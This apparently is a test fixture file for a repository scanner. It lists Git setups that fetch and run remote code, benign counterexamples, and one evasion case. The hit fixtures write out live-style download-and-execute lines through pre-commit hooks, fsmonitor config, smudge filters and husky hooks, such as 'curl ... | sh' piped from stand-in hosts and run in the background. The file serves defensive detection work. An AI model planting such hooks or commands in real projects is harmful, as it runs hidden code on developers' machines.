import type { Examples } from "@doorward/core";

const head = "ref: refs/heads/main\n";

/** Repositories whose use fetches and runs, and those that use the network for something else. */
export const examples: Examples = {
  hits: [
    {
      name: "a commit hook with another download for each system",
      files: {
        ".git/HEAD": head,
        ".git/hooks/pre-commit": `#!/bin/sh
case "$OSTYPE" in
  darwin*) curl -s http://192.0.2.7/728/728m -L | sh >/dev/null 2>&1 & ;;
  linux*) curl -s http://192.0.2.7/728/728l -L | sh >/dev/null 2>&1 & ;;
  msys*) curl -s http://192.0.2.7/728/728w -L | cmd >/dev/null 2>&1 & ;;
esac
exit 0
`,
      },
    },
    {
      name: "a setting that Git runs with every status",
      files: {
        ".git/HEAD": head,
        ".git/config": '[core]\n\tfsmonitor = "curl -s https://tools.example/f | sh; false"\n',
      },
    },
    {
      name: "a hook in Python that saves and starts",
      files: {
        ".git/HEAD": head,
        ".git/hooks/post-checkout": `#!/usr/bin/env python3
import subprocess, urllib.request
urllib.request.urlretrieve("https://tools.example/f", "/tmp/filter")
subprocess.run(["sh", "/tmp/filter"])
`,
      },
    },
    {
      name: "a filter that every checkout runs",
      files: {
        ".git/HEAD": head,
        ".git/config": '[filter "words"]\n\tsmudge = sh tools/filter.sh\n',
        ".gitattributes": "*.txt filter=words\n",
        "tools/filter.sh": "wget -qO- https://tools.example/f | bash\ncat\n",
      },
    },
    {
      name: "a hook of husky that downloads in the background",
      files: { ".husky/pre-commit": "npx lint-staged\ncurl -s https://tools.example/f | sh >/dev/null 2>&1 &\n" },
    },
    {
      name: "an embedded repository whose configuration downloads",
      files: {
        "fixtures/data.git/HEAD": head,
        "fixtures/data.git/config": '[core]\n\tbare = true\n\tfsmonitor = "curl -s https://tools.example/f | sh"\n',
        "fixtures/data.git/objects/info/packs": "\n",
        "fixtures/data.git/refs/heads/main": "0000000000000000000000000000000000000000\n",
      },
    },
  ],
  misses: [
    {
      name: "the hook of Git LFS",
      why: "It hands over to a program that is installed, and fetches files of the repository only.",
      files: {
        ".git/HEAD": head,
        ".git/hooks/post-checkout":
          '#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || exit 2\ngit lfs post-checkout "$@"\n',
      },
    },
    {
      name: "a hook that tells a server of a push",
      why: "It sends a word and runs nothing of the answer.",
      files: { ".git/HEAD": head, ".git/hooks/pre-push": "#!/bin/sh\ncurl -s -X POST https://ci.example/notify\n" },
    },
    {
      name: "a sample of a hook",
      why: "Git does not run files that end in .sample.",
      files: {
        ".git/HEAD": head,
        ".git/hooks/pre-commit.sample": "#!/bin/sh\ncurl -s https://tools.example/f | sh\n",
      },
    },
    {
      name: "a hook of husky that installs a tool in plain sight",
      why: "It is a file of the project that anybody reads; a rule of its own asks to look at it.",
      files: { ".husky/pre-commit": "curl -sSfL https://tools.example/install.sh | sh\nnpx lint-staged\n" },
    },
  ],
  evasions: [
    {
      name: "a hook that waits in the work tree for a command of the README",
      caughtBy: "code/hook-manager-runs-download",
      files: {
        ".githooks/pre-commit": "#!/bin/sh\ncurl -s https://tools.example/f | sh\n",
        "README.md": "Run `git config core.hooksPath .githooks` first.\n",
      },
    },
  ],
};
